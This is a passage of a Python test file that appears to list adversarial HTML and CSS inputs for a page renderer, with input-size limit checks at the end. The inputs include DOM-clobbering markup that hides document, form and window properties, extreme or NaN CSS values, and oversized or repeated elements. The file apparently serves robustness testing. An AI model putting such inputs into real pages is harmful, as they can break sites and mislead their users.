    "names hide its state": "<img name=readyState><object name=documentElement></object><img name=body><b id=settled>",
    "names hide a form's": "<form autofocus><input name=cloneNode><input name=replaceWith><input name=removeAttribute>",
    "names hide the window's": "<img id=Document><img id=Reflect><a id=Element></a><a id=Promise></a>"
    "<img id=addEventListener><img id=scrollTo><img id=scrollY><img id=innerHeight>",
    "foreign names": "<math><svg></svg></math><svg><marquee></marquee><progress></progress><a autofocus></a></svg>",
    "odd colours": "<p style='color:rgb(none none none);background:rgb(calc(infinity) 0 0 / none)'>a"
    "<p style='color:color(display-p3 none 1 0);background:color-mix(in oklab,red,lab(50% none 0))'>b",
    "odd numbers": "<p style='font-size:calc(infinity*1px);opacity:calc(NaN)'>a<p style='font-weight:calc(-infinity)'>b"
    "<p style='font-size:0;zoom:1e9'>c<p style='line-height:1e38;letter-spacing:1e38px'>d",
    "odd transforms": "<p style='transform:scale(1e38)'>a<b style='display:block;transform:scale(1e38) rotate(9e9rad)'>"
    "b</b><p style='transform:matrix3d(0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0)'>c<p style='transform:perspective(1e-9px)'>d",
    "wide": "<div style='width:10000000px;height:9px;background:red'>a",
    "tall": "<div style='width:9px;height:10000000px;background:linear-gradient(red,blue)'>a",
    "wide and tall": "<p style='width:1e30px;height:1e30px;border:1e7px solid;margin:1e7px'>a",
    "negative": "<p style='margin:-1e7px;text-indent:-9999999px'>a<p style='position:absolute;left:-1e9px'>b",
    "fixed": "<p style='position:fixed;inset:0;background:red'>a<p style='position:sticky;top:-1e9px'>b" * 200,
    "giant text": "<p style='font-size:1000000px'>a<p style='font-size:1e-9px'>b",
    "scrolled by focus": "<p style='height:9000px;width:9000px'>a</p><input autofocus style='margin-left:8000px'>",
    "focus in a frame": "<iframe srcdoc='<p style=height:9000px>a</p><input autofocus>'></iframe>",
    "paper": "<style>@page{size:1e6in}@media print{body{display:none}}</style><dialog open>a</dialog><p popover>b",
    "titled sheets": "<style title=hostile>p{color:red}</style><link rel=stylesheet title=b href='data:text/css,p{}'>a",
    "registered names": "<style>@property --a{syntax:'<color>';inherits:true;initial-value:lime}@layer x,y;"
    "@font-palette-values --p{font-family:f}@view-transition{navigation:auto}@counter-style decimal{system:cyclic;"
    "symbols:x}@position-try --t{top:0}:root{color-scheme:dark;--a:red;view-transition-name:r}</style><p>a",
    "settings of the page": "<meta http-equiv=origin-trial content=AAAA><meta http-equiv=accept-ch content=dpr><meta "
    "http-equiv=content-language content=ar><meta name=referrer content=origin><meta name=theme-color content=red>a",
    "styles of the root": "<html dir=rtl lang=ja style='zoom:3;filter:invert(1);writing-mode:vertical-rl;"
    "overflow:hidden;scroll-behavior:smooth;scroll-snap-type:y mandatory;font-size:40px'><body dir=rtl>a",
}

SIZE = 2_000_000
LARGEST = {
    "of the very size": "<p>" + "a" * (SIZE - 3),
    "of the very size in two bytes": "é" * (SIZE // 2),
}
TOO_LARGE = {
    "a byte too large": "<p>" + "a" * (SIZE - 2),
    "too large in two bytes": "é" * (SIZE // 2 + 1),
    "thrice too large": "<b>" * SIZE,
}
